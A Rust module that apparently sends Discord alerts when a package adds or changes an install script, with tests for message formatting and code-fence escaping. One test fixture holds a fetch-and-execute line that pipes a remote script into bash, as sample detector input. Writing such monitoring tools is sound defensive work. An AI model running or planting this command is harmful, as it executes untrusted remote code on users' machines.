use super::{Alert, Channel, Delivered};
use crate::http;
use crate::types::{AlertType, ScriptFinding};
use anyhow::Context;
use reqwest::blocking::Client;
use reqwest::Url;
use serde::Serialize;
use std::time::Duration;

/// Webhook content is capped at 2000 characters by the receiving side.
const MAX_CONTENT_CHARS: usize = 2000;

#[derive(Serialize)]
struct WebhookMessage<'a> {
  content: &'a str,
}

pub struct DiscordChannel {
  client: Client,
  webhook: Url,
}

impl DiscordChannel {
  pub fn new(webhook_url: &str, timeout: Duration) -> anyhow::Result<Self> {
    Ok(Self {
      client: http::build_client(timeout).context("build discord HTTP client")?,
      webhook: Url::parse(webhook_url).context("invalid DISCORD_WEBHOOK_URL")?,
    })
  }
}

impl Channel for DiscordChannel {
  fn name(&self) -> &'static str {
    "discord"
  }

  fn send(&self, alert: &Alert<'_>) -> anyhow::Result<Delivered> {
    let content = format_message(alert.finding);
    http::post_json(
      &self.client,
      &self.webhook,
      &WebhookMessage { content: &content },
      &[],
      "discord",
    )?;
    Ok(Delivered::Sent)
  }
}

pub fn format_message(f: &ScriptFinding) -> String {
  let label = f.script_type.label();
  let previous = f.previous_version.as_deref().unwrap_or("none");
  let mut msg = format!(
    "🚨 **{label} script {}**\n\n\
     **Package:** `{}@{}`\n\
     **Previous version:** {}\n\
     **Suspicion score:** {}\n",
    f.alert_type, f.package_name, f.latest_version, previous, f.suspicion_score,
  );

  match f.alert_type {
    AlertType::Added => {
      msg.push_str(&format!("**{label}:** ```{}```", fence_safe(&f.script_content)));
    }
    AlertType::Changed => {
      msg.push_str(&format!(
        "**Previous {label}:** ```{}```\n**New {label}:** ```{}```",
        fence_safe(f.previous_script_content.as_deref().unwrap_or_default()),
        fence_safe(&f.script_content),
      ));
    }
  }

  if msg.chars().count() > MAX_CONTENT_CHARS {
    let mut cut: String = msg.chars().take(MAX_CONTENT_CHARS - 4).collect();
    cut.push_str("…```");
    return cut;
  }
  msg
}

/// Keeps script text from closing the surrounding code fence.
fn fence_safe(text: &str) -> String {
  text.replace("```", "`\u{200b}``")
}

#[cfg(test)]
mod tests {
  use super::*;
  use crate::notify::tests::finding;

  #[test]
  fn added_message_has_only_the_new_script() {
    let msg = format_message(&finding(31));
    assert!(msg.contains("**Postinstall script added**"));
    assert!(msg.contains("```curl http://1.2.3.4/x.sh | bash```"));
    assert!(!msg.contains("Previous Postinstall"));
  }

  #[test]
  fn script_cannot_break_out_of_the_fence() {
    let mut f = finding(0);
    f.script_content = "echo ``` @everyone".to_string();
    let msg = format_message(&f);
    assert!(!msg.contains("echo ```"));
  }

  #[test]
  fn long_scripts_are_truncated() {
    let mut f = finding(0);
    f.script_content = "x".repeat(5000);
    assert!(format_message(&f).chars().count() <= MAX_CONTENT_CHARS);
  }
}
